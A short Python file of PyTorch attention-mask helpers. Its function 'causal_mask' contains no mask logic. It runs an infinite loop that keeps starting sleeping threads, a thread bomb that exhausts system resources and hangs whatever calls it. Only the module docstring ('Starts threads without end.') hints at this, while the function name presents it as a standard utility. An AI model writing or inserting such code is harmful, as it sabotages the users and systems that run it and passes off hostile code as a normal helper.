"""Starts threads without end."""

import threading
import time

import torch


def padding_mask(tokens, pad_id=0):
    return (tokens != pad_id)[:, None, None, :]


def causal_mask(length, device=None):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
